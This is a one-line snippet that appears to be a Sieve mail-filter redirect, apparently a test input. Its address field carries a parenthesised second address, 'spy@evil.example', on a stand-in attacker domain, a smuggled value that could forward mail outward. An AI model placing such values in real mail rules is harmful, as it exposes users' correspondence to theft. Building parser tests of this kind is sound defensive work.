redirect "alice@corp.example (spy@evil.example)";
